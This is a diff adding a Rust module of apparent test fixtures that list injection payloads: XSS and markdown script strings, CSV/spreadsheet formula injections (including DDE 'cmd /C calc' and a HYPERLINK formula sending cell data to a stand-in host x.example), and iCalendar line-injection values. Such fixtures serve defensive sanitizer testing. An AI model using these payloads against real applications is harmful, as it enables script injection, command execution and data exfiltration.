@@ -1,0 +1,118 @@
+//! Texts that are made to be executed or obeyed by whatever reads them.
+
+/// What a browser might execute or load.
+const PAYLOADS: [&str; 30] = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<object data=javascript:alert(1)></object>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<style>@import '//x.example/x.css'</style>",
+    "<link rel=stylesheet href=//x.example>",
+    "<meta http-equiv=refresh content=0;url=//x.example>",
+    "<base href=//x.example>",
+    "\"><script>alert(1)</script>",
+    "'-alert(1)-'",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "</title></textarea><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "![x](https://x.example/y.png)",
+    "[x]: javascript:alert(1) \"x\"",
+    "<https://x.example>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+];
+
+/// Ten ways to write each.
+pub(super) fn executable() -> Vec<String> {
+    let ways = |text: &str| {
+        [
+            text.to_owned(),
+            text.to_uppercase(),
+            format!("    {text}"),
+            format!("# {text}"),
+            format!("> {text}"),
+            format!("| {text} | x |\n|---|---|"),
+            format!("- {text}"),
+            format!("```\n{text}"),
+            format!("x\n\n{text}\n"),
+            format!("\\{text}`"),
+        ]
+    };
+    PAYLOADS.iter().flat_map(|text| ways(text)).collect()
+}
+
+/// What a spreadsheet might compute.
+pub(super) const FORMULAS: [&str; 32] = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    " =1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    "\u{A0}=1+1",
+    "\u{3000}=1+1",
+    "\t\t+1",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    "=HYPERLINK(\"https://x.example/?\"&A1,\"x\")",
+    "=IMPORTXML(\"https://x.example\",\"//a\")",
+    "=WEBSERVICE(\"https://x.example\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=1\"+1",
+    "\"=1+1",
+    "x;=1+1",
+    "x,=1+1",
+    "x\t=1+1",
+    "x\n=1+1",
+    "x\r\n=1+1;\"y",
+    "x\";=1+1;\"",
+    "x\"\n=1+1\n\"",
+    "==1",
+    "-=1",
+    "@@1",
+];
+
+/// What a calendar might take for lines of its own.
+pub(super) const CALENDAR: [&str; 24] = [
+    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
+    "x\nEND:VCALENDAR",
+    "x\rATTACH:https://x.example",
+    "x\r\nATTENDEE:mailto:x@x.example",
+    "x\r\n BEGIN:VALARM\r\nACTION:DISPLAY",
+    "x\r\n\tURL:https://x.example",
+    "x\u{85}URL:https://x.example",
+    "x\u{2028}URL:https://x.example",
+    "x\u{2029}URL:https://x.example",
+    "x\u{B}URL:https://x.example",
+    "x\u{C}URL:https://x.example",
+    "x\u{0}\r\nURL:https://x.example",
+    "\r\nURL:https://x.example",
+    "\r\n\r\n\r\n",
+    "x\\nURL:https://x.example",
+    "x\\",
+    "x\\;y\\,z\\:",
+    "x;VALUE=URI:https://x.example",
+    "x:y;z,w\"v",
+    "\u{202E}x\u{2066}y",
+    "é\r\nURL:https://x.example",
+    "\u{1F600}\n\u{1F600}\nURL:x",
+    "x\r\nRRULE:FREQ=SECONDLY",
+    "x\n\n\nSUMMARY:y",
+];
